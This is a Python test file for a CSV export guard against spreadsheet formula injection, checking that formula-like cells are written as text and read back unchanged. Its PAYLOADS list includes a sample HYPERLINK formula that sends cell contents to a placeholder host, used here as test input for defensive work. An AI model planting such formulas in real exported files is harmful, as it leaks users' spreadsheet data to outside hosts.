"""Issue 13, finding 4: CSV cells a spreadsheet would run as formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from formasi.domain.csvcells import TRIGGERS, CsvWriter, guard, unguard

PAYLOADS = ['=HYPERLINK("http://x?leak="&A2,"Klik")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(values: list[object]) -> list[str]:
    out = io.StringIO()
    CsvWriter(out).writerow(values)  # type: ignore[arg-type]
    return next(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_text_starting_with_a_formula_character_is_written_as_text() -> None:
    for cell in _cells(PAYLOADS):
        assert cell.startswith("'") and cell[1] in TRIGGERS


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    assert _cells([-5, -1.5, Decimal("-2.25"), 0, "Siti", "", None]) == [
        "-5", "-1.5", "-2.25", "0", "Siti", "", "",
    ]  # fmt: skip


@given(st.text())
def test_guarded_text_reads_back_unchanged(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not guard(text) or guard(text)[0] not in TRIGGERS


@given(st.text())
def test_text_that_needs_no_guard_reads_as_it_stands(text: str) -> None:
    if guard(text) == text:
        assert unguard(text) == text
